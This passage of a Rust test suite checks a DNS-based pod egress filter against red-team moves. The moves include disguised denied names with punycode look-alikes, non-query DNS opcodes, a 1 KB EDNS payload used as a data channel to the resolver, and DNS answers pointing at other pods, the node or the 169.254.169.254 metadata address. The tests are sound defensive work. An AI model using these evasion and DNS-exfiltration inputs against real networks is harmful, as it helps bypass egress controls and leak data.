    assert!(
        got.is_err(),
        "web got an answer to a query it never sent: {got:?}"
    );
    // Control: web's own query from that socket is answered.
    victim.send_to(&query, "192.0.2.53:53").unwrap();
    let (n, _) = victim
        .recv_from(&mut b)
        .expect("web's own query is answered");
    assert_eq!(b.get(3).map(|f| f & 0x0f), Some(0), "{:?}", &b[..n]);
}

// The node's own connections to an enforced pod (health probes, say) keep working:
// only connections the datapath let start, or the node started, skip the policy.
#[test]
fn the_node_reaches_an_enforced_pods_service() {
    let Some(env) = env(vec![]) else { return };
    let service = Service::start(env.web().netns(), 7788);
    let to = SocketAddr::new(IpAddr::V4(env.web().ipv4()), 7788);
    let got = env
        .lab
        .node()
        .run(move || -> std::io::Result<String> {
            let mut s = std::net::TcpStream::connect_timeout(&to, Duration::from_secs(2))?;
            s.set_read_timeout(Some(Duration::from_secs(2)))?;
            let mut line = String::new();
            s.read_to_string(&mut line)?;
            Ok(line)
        })
        .unwrap();
    assert_eq!(
        got.ok().as_deref(),
        Some("secret from service\n"),
        "{}",
        env.diag()
    );
    assert_eq!(service.tcp(), 1);
}

// ---------------------------------------------------------------------------------------
// DNS through the proxy
// ---------------------------------------------------------------------------------------

// Denied names in disguise: case, trailing labels, look-alikes, punycode.
#[test]
fn redteam_dns_name_variants_of_denied_names_are_refused() {
    let Some(env) = env(vec![]) else { return };
    let cases: &[&[&[u8]]] = &[
        &[b"example", b"com"], // `**.` needs at least one label
        &[b"EXAMPLE", b"COM"],
        &[b"api", b"example", b"com", b"evil", b"net"],
        &[b"api", b"example", b"comx"],
        &[b"apiexample", b"com"],
        &[b"xn--exmple-cua", b"com"],
        &[b"api", b"xn--exmple-cua", b"com"],
        &[b"EVIL", b"EXAMPLE", b"ORG", b"attacker"],
        &[b"x", b"evil", b"example", b"org"], // matchName is exact
        &[b"deep", b"example", b"net", b"evil"],
    ];
    for (i, labels) in cases.iter().enumerate() {
        let q = dns_msg(100 + i as u16, 0x0100, labels, 1, 0, &[]);
        assert_eq!(rcode(env.web(), DNS_V4, &q), Some(REFUSED), "{labels:?}");
    }
    // Allowed variants still work (control): case and the matchName in capitals.
    let q = dns_msg(1, 0x0100, &[b"API", b"Example", b"COM"], 1, 0, &[]);
    assert_eq!(rcode(env.web(), DNS_V4, &q), Some(0));
}

// Opcodes other than QUERY (UPDATE, NOTIFY, STATUS), responses sent as queries, and
// non-DNS bytes on UDP/TCP port 53: nothing reaches the resolver.
#[test]
fn redteam_dns_non_query_messages_never_reach_the_resolver() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[
            (
                "marker",
                "ip daddr 192.0.2.53 udp dport 53 @th,64,16 0x7a7a".to_owned(),
            ),
            (
                "tcp_marker",
                "ip daddr { 192.0.2.53, 203.0.113.66 } tcp dport 53 meta length > 100".to_owned(),
            ),
            ("evil53", "ip daddr 203.0.113.66".to_owned()),
        ],
    );
    let name: &[&[u8]] = &[b"api", b"example", b"com"];
    // id 0x7a7a marks what the world counter looks for.
    let id = 0x7a7a;
    for (flags, what) in [
        (0x2800u16, "UPDATE"),
        (0x2000, "NOTIFY"),
        (0x1000, "STATUS"),
        (0x0800, "IQUERY"),
        (0x8100, "response as query"),
    ] {
        let q = dns_msg(id, flags, name, 6, 0, &[]);
        let r = rcode(env.web(), DNS_V4, &q);
        println!("{what}: rcode {r:?}");
    }
    // Not DNS at all.
    let _ = env.web().udp_exchange(
        DNS_V4,
        b"zzzz-this-is-not-dns-at-all",
        Duration::from_millis(500),
    );
    // TCP to another server's port 53 (TPROXY'd; the pod "connects"): raw bytes.
    for to in ["192.0.2.53:53", "203.0.113.66:53"] {
        if let Ok(mut c) = env
            .web()
            .netns()
            .run(move || {
                std::net::TcpStream::connect_timeout(&to.parse().unwrap(), Duration::from_secs(1))
            })
            .unwrap()
        {
            let mut junk = vec![0x00, 0xf0];
            junk.extend_from_slice(&[b'Z'; 240]);
            let _ = c.write_all(&junk);
            std::thread::sleep(Duration::from_millis(300));
        }
    }
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        watch.count("marker"),
        0,
        "non-QUERY or non-DNS message forwarded"
    );
    assert_eq!(watch.count("tcp_marker"), 0, "raw TCP bytes forwarded");
    assert_eq!(watch.count("evil53"), 0, "{}", env.diag());
}

// Found by the red-team review, fixed (low): a query for an allowed name that carries pod-chosen bytes in its
// additional section (here a 1 KB unknown EDNS option) is relayed to the resolver as is:
// a bulk channel to the resolver beyond the query names the README warns about.
#[test]
fn redteam_dns_additional_section_payload() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[(
            "big",
            "ip daddr 192.0.2.53 udp dport 53 meta length > 900".to_owned(),
        )],
    );
    // An OPT record with a 1,000-byte unknown option full of "data".
    let mut opt = vec![0u8, 0, 41, 0x10, 0, 0, 0, 0, 0];
    let data = vec![b'D'; 1000];
    opt.extend_from_slice(&((4 + data.len()) as u16).to_be_bytes());
    opt.extend_from_slice(&65001u16.to_be_bytes());
    opt.extend_from_slice(&(data.len() as u16).to_be_bytes());
    opt.extend_from_slice(&data);
    let q = dns_msg(0x1111, 0x0100, &[b"api", b"example", b"com"], 1, 1, &opt);
    let r = rcode(env.web(), DNS_V4, &q);
    println!(
        "query with 1 KB EDNS option: rcode {r:?}, big datagrams at resolver: {}",
        watch.count("big")
    );
    assert_eq!(
        watch.count("big"),
        0,
        "pod-chosen EDNS payload relayed to the resolver"
    );
}

// ---------------------------------------------------------------------------------------
// East-west
// ---------------------------------------------------------------------------------------

#[test]
fn redteam_east_west_to_other_pods_is_refused() {
    let Some(env) = env(vec![]) else { return };
    let plain = Service::start(env.plain().netns(), 7777);
    let other = Service::start(env.other().netns(), 7777);
    for to in [
        IpAddr::V4(env.plain().ipv4()),
        IpAddr::V6(env.plain().ipv6()),
        IpAddr::V4(env.other().ipv4()),
        IpAddr::V6(env.other().ipv6()),
    ] {
        assert!(blocked(reach(env.web(), to, 7777)), "{to}");
        let _ = env
            .web()
            .udp_exchange(SocketAddr::new(to, 7777), b"x", Duration::from_millis(300));
    }
    assert_eq!(plain.tcp() + plain.udp(), 0);
    assert_eq!(other.tcp() + other.udp(), 0);
    // Control: plain reaches other's service (no policy on plain; other has no ingress).
    assert_eq!(
        reach(env.plain(), IpAddr::V4(env.other().ipv4()), 7777),
        Outcome::Connected
    );
}

// ---------------------------------------------------------------------------------------
// Learned IPs: ports and protocols
// ---------------------------------------------------------------------------------------

#[test]
fn redteam_learned_ip_other_ports_and_protocols() {
    let Some(env) = env(vec![]) else { return };
    let api = a(env.web(), "api.example.com")[0];
    assert_eq!(reach(env.web(), api, 443), Outcome::Connected);
    for port in [80, 853, 8080] {
        assert!(blocked(reach(env.web(), api, port)), "{port}");
    }
    // UDP to 443 (TCP only) and TCP to 9000 (UDP only).
    assert!(env
        .web()
        .udp_exchange(SocketAddr::new(api, 443), b"x", Duration::from_millis(500))
        .is_err());
    assert!(blocked(reach(env.web(), api, 9000)));
    // A DNS name that resolved only for `other` does not open for web.
    assert_eq!(a(env.web(), "other.example.com"), [ip("192.0.2.50")]);
    assert!(blocked(reach(env.web(), ip("192.0.2.50"), 443)));
}

// ---------------------------------------------------------------------------------------
// CNAME chains: whose selectors does an answer teach?
// ---------------------------------------------------------------------------------------

// ---------------------------------------------------------------------------------------
// Allowed names that point inside
// ---------------------------------------------------------------------------------------

/// Addresses the world's zone gives names under the allowed `*.cdn.example.com`: the other
/// pod (10.200.1.2), the node's address on web's link (10.200.0.1), an unused address of
/// the pod range, special-purpose ranges, and a private address outside the cluster (the
/// world's own 10.201.0.2), which stays learnable.
fn inside_records() -> Vec<Rec> {
    vec![
        Rec::Addr("int-pod.cdn.example.com", 60, ip("10.200.1.2")),
        Rec::Addr("int-pod.cdn.example.com", 60, ip("fd00:200:1::2")),
        Rec::Addr("int-node.cdn.example.com", 60, ip("10.200.0.1")),
        Rec::Addr("int-node.cdn.example.com", 60, ip("fd00:200::1")),
        Rec::Addr("int-range.cdn.example.com", 60, ip("10.200.9.9")),
        Rec::Addr("loop.cdn.example.com", 60, ip("127.0.0.1")),
        Rec::Addr("meta.cdn.example.com", 60, ip("169.254.169.254")),
        Rec::Addr("bcast.cdn.example.com", 60, ip("255.255.255.255")),
        Rec::Addr("mapped.cdn.example.com", 60, ip("::ffff:198.51.100.66")),
        Rec::Addr("corp.cdn.example.com", 60, ip("10.201.0.2")),
    ]
}

/// The `not_learned` entries of the allowed-answer flow events for `name`: (ip, reason).
fn not_learned(env: &common::Env, name: &str) -> Vec<(String, String)> {
    common::observe(env, &["--name", name, "--verdict", "allowed"])
        .iter()
        .flat_map(|f| {
            f["dns"]["not_learned"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .map(|n| {
            (
                n["ip"].as_str().unwrap().to_owned(),
                n["reason"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

// Found by the hardening review, fixed: a name under an allowed wildcard whose answer held
// another pod's or the node's address made that address reachable; loopback, metadata,
// broadcast and IPv4-mapped addresses went into the selector sets too.
#[test]
fn redteam_allowed_names_never_open_the_node_other_pods_or_special_addresses() {
    allowed_names_never_open_inside(false);
}

/// The same with `dnsfence agent` and `dnsfence proxy --agent`: the proxy filters what it
/// writes into the agent's sets.
#[test]
fn redteam_allowed_names_never_open_inside_in_split_mode() {
    allowed_names_never_open_inside(true);
}

fn allowed_names_never_open_inside(split: bool) {
    let port = common::metrics_port(3);
    let config = format!(
        "cluster_cidrs: [10.200.0.0/16, \"fd00:200::/32\"]\nmetrics: {{listen: \"127.0.0.1:{port}\"}}\n"
    );
    let env = if split {
        common::env_split_config(inside_records(), &config)
    } else {
        common::env_config(inside_records(), &config)
    };
    let Some(env) = env else {
        return;
    };
    let other = Service::start(env.other().netns(), 7001);
    let node = Service::start(env.lab.node(), 7002);
    let targets = [
        (ip("10.200.1.2"), 7001),
        (ip("fd00:200:1::2"), 7001),
        (ip("10.200.0.1"), 7002),
        (ip("fd00:200::1"), 7002),
    ];
    // Controls: the plain pod (no policy) reaches both services, and web reaches neither
    // before resolving anything.
    assert_eq!(
        reach(env.plain(), ip("10.200.1.2"), 7001),
        Outcome::Connected
    );
    assert_eq!(
        reach(env.plain(), IpAddr::V4(env.plain().gateway_v4()), 7002),
        Outcome::Connected
    );
    for (to, port) in targets {
        assert!(blocked(reach(env.web(), to, port)), "{to} before");
    }
    let (other_before, node_before) = (other.tcp(), node.tcp());
    // The names resolve (the answer reaches the pod unchanged) ...
    assert_eq!(a(env.web(), "int-pod.cdn.example.com"), [ip("10.200.1.2")]);
    assert_eq!(a(env.web(), "int-node.cdn.example.com"), [ip("10.200.0.1")]);
    for name in ["int-pod", "int-node", "int-range", "loop", "meta", "bcast"] {
        a(env.web(), &format!("{name}.cdn.example.com"));
    }
    for name in ["int-pod", "int-node", "mapped"] {
        let (status, _) = common::resolve(
            env.web(),
            &format!("{name}.cdn.example.com"),
            dnsfence_lab::RecordType::AAAA,
            dnsfence_lab::Transport::Udp,
        );
        assert_eq!(status, dnsfence_lab::DnsStatus::NoError, "{name}");
    }
    // ... but open nothing.
    for (to, port) in targets {
        assert!(blocked(reach(env.web(), to, port)), "{to} after resolving");
    }
    assert_eq!(other.tcp(), other_before);
    assert_eq!(node.tcp(), node_before);
    // Each address is reported with why.
    for (name, ip, reason) in [
        ("int-pod.cdn.example.com", "10.200.1.2", "endpoint"),
        ("int-pod.cdn.example.com", "fd00:200:1::2", "endpoint"),
        ("int-node.cdn.example.com", "10.200.0.1", "node"),
        ("int-node.cdn.example.com", "fd00:200::1", "node"),
        ("int-range.cdn.example.com", "10.200.9.9", "cluster"),
        ("loop.cdn.example.com", "127.0.0.1", "loopback"),
        ("meta.cdn.example.com", "169.254.169.254", "link-local"),
        ("bcast.cdn.example.com", "255.255.255.255", "broadcast"),
        (
            "mapped.cdn.example.com",
            "::ffff:198.51.100.66",
            "mapped-ipv4",
        ),
    ] {
        let got = not_learned(&env, name);
        assert!(
            got.contains(&(ip.to_owned(), reason.to_owned())),
            "{name}: {got:?}\n{}",
            env.diag()
        );
    }
    // None of them is in the learned mappings.
    let out = common::dnsfence_cli(&env, &["fqdn", "list", "-o", "json"]);
    let listed = String::from_utf8_lossy(&out.stdout);
    for ip in [
        "10.200.1.2",
        "10.200.0.1",
        "10.200.9.9",
        "127.0.0.1",
        "169.254.169.254",
        "255.255.255.255",
        "::ffff:",
    ] {
        assert!(!listed.contains(ip), "{ip} learned: {listed}");
    }
    // The metric counts them by reason.
    let text = common::scrape(&env, port);
    for reason in [
        "endpoint",
        "node",
        "cluster",
        "loopback",
        "link-local",
        "broadcast",
        "mapped-ipv4",
    ] {
        let line = format!("dnsfence_dns_answer_ips_not_learned_total{{reason=\"{reason}\"}}");
        let n: f64 = text
            .lines()
            .find_map(|l| l.strip_prefix(line.as_str()))
            .and_then(|v| v.trim().parse().ok())
            .unwrap_or_else(|| panic!("no {line} in\n{text}"));
        assert!(n >= 1.0, "{line} {n}");
    }
    // A private address outside the cluster stays learnable: refused before, open after.
    assert!(blocked(reach(env.web(), ip("10.201.0.2"), 443)));
    assert_eq!(a(env.web(), "corp.cdn.example.com"), [ip("10.201.0.2")]);
    assert_eq!(reach(env.web(), ip("10.201.0.2"), 443), Outcome::Connected);
}

// The kernel's own guard: even with the node's address in a selector set (as a proxy of an
// older version, or a state file, could leave it), the node is not opened.
#[test]
fn redteam_a_node_address_in_a_selector_set_does_not_open_the_node() {
    let Some(env) = env(vec![]) else { return };
    let node = Service::start(env.lab.node(), 7003);
    let out = env
        .lab
        .node()
        .command("nft")
        .args(["list", "table", "inet", "dnsfence"])
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&out.stdout).into_owned();
    // Every IPv4 selector set of web's policy (`*.cdn.example.com` allows every port).
    let sets: Vec<String> = table
        .lines()
        .filter_map(|l| {
            let l = l.trim();
            (l.starts_with("set fq_") && l.ends_with("_4 {")).then(|| {
                l.trim_start_matches("set ")
                    .trim_end_matches(" {")
                    .to_owned()
            })
        })
        .collect();
    assert!(!sets.is_empty(), "{table}");
    let node_ip = env.web().gateway_v4();
    for set in &sets {
        let st = env
            .lab
            .node()
            .command("nft")
            .args([
                "add",
                "element",
                "inet",
                "dnsfence",
                set,
                &format!("{{ {node_ip} timeout 60s, 10.201.0.2 timeout 60s }}"),
            ])
            .status()
            .unwrap();
        assert!(st.success());
    }
    // The same sets open the world's address (so the elements are in force) ...
    assert_eq!(reach(env.web(), ip("10.201.0.2"), 443), Outcome::Connected);
    // ... but never the node.
    assert!(blocked(reach(env.web(), IpAddr::V4(node_ip), 7003)));
    assert_eq!(node.tcp(), 0, "{}", env.diag());
}
